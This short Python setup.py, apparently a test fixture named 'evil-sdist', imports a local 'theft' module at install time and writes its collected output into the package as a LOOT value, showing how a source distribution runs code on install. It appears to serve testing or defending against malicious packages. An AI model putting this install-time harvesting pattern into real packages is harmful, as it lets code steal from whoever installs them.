"""The source distribution: installing it runs this."""

import os
import pathlib
import sys

from setuptools import setup

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import theft  # noqa: E402

pathlib.Path("evil_sdist.py").write_text(f"LOOT = {theft.run()!r}\n")
setup(name="evil-sdist", version="1.0", py_modules=["evil_sdist"])
